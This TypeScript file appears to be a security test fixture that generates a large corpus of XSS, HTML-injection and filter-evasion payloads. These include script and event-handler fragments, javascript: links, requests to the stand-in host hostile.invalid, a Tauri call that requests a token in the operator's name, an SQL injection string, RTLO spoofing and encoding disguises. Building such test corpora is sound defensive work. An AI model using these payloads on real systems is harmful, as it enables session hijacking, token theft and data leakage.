/** Fragments of markup and script, each of which would do something if it were ever taken for more than text. */

/** What a fragment does if it runs: it leaves a mark. */
const MARK = "window.__pwned=1";
/** The same, and in the desktop app it asks the broker for a token in the operator's name. */
const CALL =
  MARK +
  ";(window.__TAURI_INTERNALS__||{invoke(){}}).invoke(`console`,{call:{method:`issueToken`,params:{agent:`pwned`}}})";

const handlers = [
  `<img src=x onerror="${MARK}">`,
  `<svg onload="${MARK}">`,
  `<body onload="${MARK}">`,
  `<details open ontoggle="${MARK}">x</details>`,
  `<input autofocus onfocus="${MARK}">`,
  `<video><source onerror="${MARK}"></video>`,
  `<marquee onstart="${MARK}">x</marquee>`,
  `<div onpointerenter="${MARK}" style="position:fixed;inset:0">x</div>`,
  `<select autofocus onfocus="${MARK}">`,
  `<audio src onloadstart="${MARK}">`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${MARK}">x</b>`,
];
const scripts = [
  `<script>${MARK}</script>`,
  `</script><script>${MARK}</script>`,
  `<script src="//hostile.invalid/x.js"></script>`,
  `<svg><script>${MARK}</script></svg>`,
  `<iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
  `<object data="data:text/html,<script>${MARK}</script>"></object>`,
  `<embed src="javascript:${MARK}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${MARK}">`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<template><script>${MARK}</script></template>`,
];
const links = [
  `javascript:${MARK}`,
  ` java\u0000script:${MARK}`,
  `data:text/html,<script>${MARK}</script>`,
  `<a href="javascript:${MARK}">x</a>`,
  `<form action="javascript:${MARK}"><button autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${MARK}">`,
  `<base href="//hostile.invalid/">`,
  `<link rel="stylesheet" href="//hostile.invalid/x.css">`,
  `<link rel="prefetch" href="//hostile.invalid/">`,
];
const requests = [
  `<img src="//hostile.invalid/pixel.png">`,
  `<img srcset="//hostile.invalid/pixel.png 1x">`,
  `<style>@import "//hostile.invalid/x.css";body{background:url(//hostile.invalid/b)}</style>`,
  `url("//hostile.invalid/b")`,
  `<svg><image href="//hostile.invalid/i"/><use href="//hostile.invalid/u#x"/></svg>`,
  `<video poster="//hostile.invalid/p" src="//hostile.invalid/v"></video>`,
  `<iframe src="//hostile.invalid/"></iframe>`,
  `![x](//hostile.invalid/md.png)`,
  `[x](javascript:${MARK})`,
];
const breakouts = [
  `"><img src=x onerror="${MARK}">`,
  `'><img src=x onerror='${MARK}'>`,
  `--><img src=x onerror="${MARK}"><!--`,
  `]]><img src=x onerror="${MARK}">`,
  "`${" + MARK + "}`",
  "{{constructor.constructor('" + MARK + "')()}}",
  "{@html '<img src=x onerror=" + MARK + ">'}",
  "${alert(1)}",
  "</title></textarea></style><img src=x onerror=" + MARK + ">",
  "\u202etxt.exe\u202c",
  "\u0000\u0007\u001b[31mred\u001b[0m",
  "%3Cscript%3E" + MARK + "%3C/script%3E",
  "&lt;script&gt;" + MARK + "&lt;/script&gt;",
  "__proto__",
  "constructor",
  "'; drop table message; --",
  '-->\'"/></sCript><svG x=">" onload=(' + MARK + ")``>",
];

export const FRAGMENTS: readonly string[] = [
  ...handlers,
  ...scripts,
  ...links,
  ...requests,
  ...breakouts,
];

const tags =
  "img svg body video audio iframe object embed input details marquee a form button select textarea style link " +
  "meta base template math frameset dialog portal xss";
const events =
  "onerror onload onfocus onclick ontoggle onstart onmouseover onpointerenter onanimationstart onbeforetoggle " +
  "onpageshow onscroll onloadstart oncanplay oncontentvisibilityautostatechange";

/** Ways to write the same so that a filter, a decoder or a template might take it for something else. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('"', "'"),
  (text) => text.replaceAll('"', ""),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\n\t"),
  (text) => text.replace(/[a-z]/g, (c, at: number) => (at % 2 === 0 ? c.toUpperCase() : c)),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#x3c;").replaceAll(">", "&#62"),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\x3e"),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => text.replaceAll("<", "<\u0000"),
  (text) => `"'--></textarea></title></style></script></noscript></template>${text}`,
  (text) => `<![CDATA[${text}]]><!--${text}-->`,
  (text) => `<svg><foreignObject>${text}</foreignObject></svg>`,
  (text) => `<template shadowrootmode=open>${text}</template>`,
  (text) => `data:text/html;base64,${Buffer.from(text).toString("base64")}`,
  (text) => `{@html ${JSON.stringify(text)}} {{${text}}} \${${text}} <%= ${text} %>`,
  (text) => `[x](javascript:${encodeURIComponent(text)}) ![](${text})`,
  (text) => `\u202e${text}\u2066\u001b[31m${text}\u001b]0;x\u0007`,
];

/** Every tag with every event in every disguise, and addresses that are scripts; each reports to `host` if it can. */
export function corpus(host: string): string[] {
  const fragments = tags
    .split(" ")
    .flatMap((tag) =>
      events
        .split(" ")
        .map((event) => `<${tag} src="//${host}/x" href="//${host}/y" ${event}="${CALL}">`),
    );
  const schemes = [
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "vbscript:",
    "data:text/html,",
  ];
  const addresses = schemes.flatMap((scheme) => [
    `${scheme}${CALL}`,
    `<a href="${scheme}${CALL}">x</a>`,
    `<svg><a xlink:href="${scheme}${CALL}"><text>x</text></a></svg>`,
    `<form action="${scheme}${CALL}"><button>x</button></form>`,
    `<iframe src="${scheme}${CALL}"></iframe>`,
  ]);
  return [...fragments, ...addresses].flatMap((one) => disguises.map((disguise) => disguise(one)));
}
